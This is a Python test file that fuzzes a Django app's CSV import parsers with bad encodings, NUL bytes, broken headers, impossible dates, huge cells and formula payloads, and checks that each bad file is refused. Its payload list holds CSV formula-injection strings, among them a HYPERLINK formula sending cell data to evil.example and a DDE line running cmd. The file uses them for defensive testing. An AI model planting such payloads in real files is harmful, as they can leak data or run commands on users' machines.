"""Every import parser fed bad files (hypothesis): malformed encodings (Latin-1, UTF-16,
invalid UTF-8), NUL bytes, missing and duplicate headers, impossible dates, huge cells and
formula payloads. Expected: a clear error and nothing imported; never an unhandled
exception (a 500 on the page). A file without defects (with or without a byte-order mark)
imports, so the property cannot pass by refusing everything.

Each parser is driven the way its page drives it: the file's bytes go through the same
reader (``read_table`` / ``read_rows`` / the police.uk reader) and then the import service.
Fixed seed and a bounded number of examples, so it runs in the normal test run.
"""

import csv
import datetime
import io
import itertools
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.core.exceptions import ValidationError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from evaluation import services as evaluation_services
from evaluation.models import FeedbackResponse
from programmes import services as programme_services
from programmes.models import Referral
from tests.evaluation.factories import ListeningExerciseFactory
from tests.factories import (
    FactorFactory,
    LocalAuthorityFactory,
    LSOAFactory,
    ProgrammeFactory,
    StrategicNeedsAssessmentFactory,
    SuccessMeasureFactory,
)
from vru import services
from vru.models import LSOA, AreaIndicator, CrimeCount, Recommendation, SuccessMeasureValue
from vru.services.areas.crime import POLICE_UK_COLUMNS

pytestmark = pytest.mark.django_db

EXAMPLES = 25
PEOPLE = itertools.count()
FUZZ = settings(
    max_examples=EXAMPLES,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=list(HealthCheck),
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
IMPOSSIBLE_DATES = ["2026-02-30", "2026-13-01", "0000-00-00", "31/02/2026", "2026-02-31"]
DEFECTS = [
    "latin1",
    "utf16",
    "invalid_utf8",
    "nul",
    "missing_header",
    "duplicate_header",
    "impossible_date",
    "huge_cell",
    "formula",
]


@dataclass
class Parser:
    name: str
    header: list[str]
    row: Callable[[int], list[str]]  # a valid row
    required: str  # a required column, to drop
    text: str  # a free-text column, for formulas, huge cells and odd characters
    date: str | None  # a date column, for impossible dates
    setup: Callable  # (partnership) -> context
    run: Callable  # (context, file_name, content) -> None; raises ValidationError or errors
    count: Callable  # (context) -> rows stored


class ImportFailedError(Exception):
    """The import answered with row errors (the service's own clear error)."""


def _fail_on_errors(outcome):
    if outcome.errors:
        for error in outcome.errors:
            message = error["message"] if isinstance(error, dict) else error.message
            assert str(message).strip(), "an error without a message"
        raise ImportFailedError


# --- the parsers ----------------------------------------------------------------------


def _core(kind):
    def run(ctx, file_name, content):
        dataset = services.read_table(file_name=file_name, content=content)
        _fail_on_errors(
            services.import_rows(
                actor=None,
                partnership=ctx["partnership"],
                kind=kind,
                dataset=dataset,
                needs_assessment=ctx.get("sna"),
            )
        )

    return run


def _lsoas_setup(partnership):
    LocalAuthorityFactory(partnership=partnership, code="E07000066")
    return {"partnership": partnership}


def _measures_setup(partnership):
    SuccessMeasureFactory(partnership=partnership, name="Knife crime")
    return {"partnership": partnership}


def _recommendations_setup(partnership):
    sna = StrategicNeedsAssessmentFactory(partnership=partnership)
    return {"partnership": partnership, "sna": sna}


def _indicators_setup(partnership):
    for n in range(60):
        LSOAFactory(partnership=partnership, code=f"E01099{n:03d}")
    FactorFactory(partnership=partnership, key="unemployment")
    return {"partnership": partnership}


def _indicators_run(ctx, file_name, content):
    dataset = services.read_table(file_name=file_name, content=content)
    _fail_on_errors(
        services.indicators_import(actor=None, partnership=ctx["partnership"], dataset=dataset)
    )


def _referrals_setup(partnership):
    return {"programme": ProgrammeFactory(partnership=partnership)}


def _referrals_run(ctx, file_name, content):
    rows = programme_services.read_rows(file_name=file_name, content=content)
    _fail_on_errors(
        programme_services.referrals_import(actor=None, programme=ctx["programme"], rows=rows)
    )


def _responses_setup(partnership):
    LocalAuthorityFactory(partnership=partnership, code="E07000066")
    return {"exercise": ListeningExerciseFactory(partnership=partnership)}


def _responses_run(ctx, file_name, content):
    dataset = services.read_table(file_name=file_name, content=content)
    _fail_on_errors(
        evaluation_services.responses_import(actor=None, exercise=ctx["exercise"], dataset=dataset)
    )


def _police_setup(partnership):
    LSOAFactory(partnership=partnership, code="E01021001")
    return {"partnership": partnership}


def _police_run(ctx, file_name, content):
    # each good example replaces the month the one before stored: that is confirmed here
    services.crime_file_import(
        actor=None,
        partnership=ctx["partnership"],
        file_name=file_name,
        content=content,
        replace=True,
    )


def _police_row(i):
    return [
        f"id{i}",
        "2019-01",
        "Essex Police",
        "Essex Police",
        "-0.1",
        "51.5",
        f"On or near Park {i}",
        "E01021001",
        "Town 001A",
        "Robbery",
        "Under investigation",
        "",
    ]


PARSERS = [
    Parser(
        "lsoas",
        ["code", "name", "local_authority_code", "population"],
        lambda i: [f"E01088{i:03d}", f"Testtown {i:03d}A", "E07000066", "1500"],
        required="local_authority_code",
        text="name",
        date=None,
        setup=_lsoas_setup,
        run=_core("lsoas"),
        count=lambda ctx: LSOA.objects.count(),
    ),
    Parser(
        "recommendations",
        ["number", "text", "prevention_stage", "intended_impacts", "themes"],
        lambda i: [str(i + 1), f"Support youth work in area {i}.", "primary", "", ""],
        required="text",
        text="text",
        date=None,
        setup=_recommendations_setup,
        run=_core("recommendations"),
        count=lambda ctx: Recommendation.objects.count(),
    ),
    Parser(
        "success_measure_values",
        ["measure", "period_label", "period_start", "period_end", "value", "is_baseline"],
        lambda i: [
            "Knife crime",
            f"Year {2000 + i}",
            f"{2000 + i}-01-01",
            f"{2000 + i}-12-31",
            "100",
            "no",
        ],
        required="period_start",
        text="period_label",
        date="period_start",
        setup=_measures_setup,
        run=_core("success_measure_values"),
        count=lambda ctx: SuccessMeasureValue.objects.count(),
    ),
    Parser(
        "area_indicators",
        ["lsoa_code", "factor", "period", "period_start", "value", "source"],
        lambda i: [f"E01099{i:03d}", "unemployment", "year", "2025-01-01", "3.5", "ONS"],
        required="lsoa_code",
        text="source",
        date="period_start",
        setup=_indicators_setup,
        run=_indicators_run,
        count=lambda ctx: AreaIndicator.objects.count(),
    ),
    Parser(
        "referrals",
        ["first_name", "last_name", "date_of_birth", "reason", "event_at"],
        # a new person each time: re-importing a referral on record is (rightly) an error
        lambda i: ["Alex", f"Imported{next(PEOPLE)}", "2010-01-01", "knife", "2026-03-01 10:00"],
        required="last_name",
        text="first_name",
        date="date_of_birth",
        setup=_referrals_setup,
        run=_referrals_run,
        count=lambda ctx: Referral.objects.count(),
    ),
    Parser(
        "listening_responses",
        ["date", "venue", "local_authority_code", "age_band", "question", "words"],
        lambda i: ["2023-01-10", "Youth club", "E07000066", "14 to 15", "Q", f"Lights {i}"],
        required="words",
        text="words",
        date="date",
        setup=_responses_setup,
        run=_responses_run,
        count=lambda ctx: FeedbackResponse.objects.count(),
    ),
    Parser(
        "police_uk",
        list(POLICE_UK_COLUMNS),
        _police_row,
        required="LSOA code",
        text="Location",
        date=None,  # a bad month is a skipped row by design (reported), not a file error
        setup=_police_setup,
        run=_police_run,
        count=lambda ctx: CrimeCount.objects.count(),
    ),
]


# --- building a file with defects -----------------------------------------------------


def build_file(parser: Parser, rows: int, defects: set[str], bom: bool, pick: int) -> bytes:
    header = list(parser.header)
    table = [parser.row(i) for i in range(rows)]
    target = pick % rows
    text_at = header.index(parser.text)
    if "missing_header" in defects:
        gone = header.index(parser.required)
        header.pop(gone)
        for row in table:
            row.pop(gone)
        text_at = header.index(parser.text) if parser.text in header else 0
    if "impossible_date" in defects:
        table[target][header.index(parser.date)] = IMPOSSIBLE_DATES[pick % len(IMPOSSIBLE_DATES)]
    if "formula" in defects:
        table[target][text_at] = FORMULAS[pick % len(FORMULAS)]
    if "huge_cell" in defects:
        table[target][text_at] = "x" * 1_000_000
    if "nul" in defects:
        table[target][text_at] += "\x00"
    if "latin1" in defects or "invalid_utf8" in defects:
        table[target][text_at] += " café"
    if "duplicate_header" in defects:
        header.insert(1, header[0])
        for row in table:
            row.insert(1, row[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(table)
    text = out.getvalue()
    if "utf16" in defects:
        return text.encode("utf-16")
    if "latin1" in defects:
        return text.encode("latin-1")
    content = text.encode("utf-8")
    if "invalid_utf8" in defects:
        content = content.replace(" café".encode(), b" caf\xe9\xff\xfe")
    return (b"\xef\xbb\xbf" if bom else b"") + content


def applicable(parser: Parser) -> list[str]:
    return [d for d in DEFECTS if d != "impossible_date" or parser.date]


@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
def test_a_bad_file_is_a_clear_error_and_imports_nothing(partnership, parser):
    ctx = parser.setup(partnership)
    seen = {"refused": 0, "imported": 0}

    @FUZZ
    @given(
        rows=st.integers(min_value=1, max_value=4),
        defects=st.sets(st.sampled_from(applicable(parser)), max_size=2),
        bom=st.booleans(),
        pick=st.integers(min_value=0, max_value=50),
    )
    def check(rows, defects, bom, pick):
        content = build_file(parser, rows, defects, bom, pick)
        before = parser.count(ctx)
        messages = None
        try:
            parser.run(ctx, f"{parser.name}.csv", content)
        except ValidationError as error:
            messages = " ".join(error.messages)
        except ImportFailedError:
            messages = "row errors"
        refused = messages is not None
        assert messages is None or messages.strip(), "a refusal without a message"
        if defects:
            assert refused, f"{sorted(defects)} was imported"
            assert parser.count(ctx) == before, f"{sorted(defects)}: something was stored"
            seen["refused"] += 1
        else:
            assert not refused, "a file without defects was refused"
            seen["imported"] += 1

    check()
    # both sides of the property were tried
    assert seen["refused"], seen
    assert seen["imported"], seen


@pytest.mark.parametrize("parser", PARSERS, ids=[p.name for p in PARSERS])
@pytest.mark.parametrize("defect", DEFECTS)
def test_each_defect_alone_is_refused(partnership, parser, defect):
    """Every defect at least once per parser, whatever hypothesis drew above."""
    if defect not in applicable(parser):
        pytest.skip(f"{parser.name} has no date column")
    ctx = parser.setup(partnership)
    content = build_file(parser, 2, {defect}, bom=False, pick=1)

    with pytest.raises((ValidationError, ImportFailedError)):
        parser.run(ctx, f"{parser.name}.csv", content)
    assert parser.count(ctx) == 0


def test_dates_are_read_as_dates_not_guessed(partnership):
    """The referral import reads ISO dates; 31/02/2026 is refused, 2010-01-01 is not."""
    parser = next(p for p in PARSERS if p.name == "referrals")
    ctx = parser.setup(partnership)
    parser.run(ctx, "referrals.csv", build_file(parser, 1, set(), bom=True, pick=0))

    referral = Referral.objects.get()
    assert referral.event_at.date() == datetime.date(2026, 3, 1)


# --- the admin's import doors (django-import-export, preview then confirm) ------------

ADMIN_DOORS = [
    (
        "/admin/vru/lsoa/import/",
        "code,name,local_authority_code,population\nE01088001,{cell},E07000066,1500\n",
        LSOA,
    ),
    ("/admin/grants/organisation/import/", "name,kind\n{cell},charity\n", "grants.Organisation"),
]


@pytest.mark.parametrize(("url", "template", "model"), ADMIN_DOORS, ids=["lsoas", "organisations"])
@pytest.mark.parametrize(
    ("defect", "content"),
    [
        ("formula", lambda t: t.format(cell="=HYPERLINK(1)").encode()),
        ("nul", lambda t: t.format(cell="Nul\x00town").encode()),
        ("huge cell", lambda t: t.format(cell="x" * 1_000_000).encode()),
        ("latin-1", lambda t: t.format(cell="Café").encode("latin-1")),
        ("utf-16", lambda t: t.format(cell="Town").encode("utf-16")),
        ("duplicate header", lambda t: ("name," + t).format(cell="Town").encode()),
    ],
)
def test_the_admin_import_refuses_a_bad_file_before_its_preview(
    client, partnership, url, template, model, defect, content
):
    from django.apps import apps
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.factories import UserFactory
    from vru.models import Role

    model = apps.get_model(model) if isinstance(model, str) else model
    LocalAuthorityFactory(partnership=partnership, code="E07000066")
    client.force_login(UserFactory(partnership=partnership, roles=[Role.ADMINISTRATOR]))
    before = model.objects.count()

    upload = SimpleUploadedFile("file.csv", content(template), content_type="text/csv")
    response = client.post(url, {"import_file": upload, "format": "0", "resource": "0"})

    assert response.status_code == 200
    assert response.context["form"].errors, defect  # the form says what is wrong
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert model.objects.count() == before
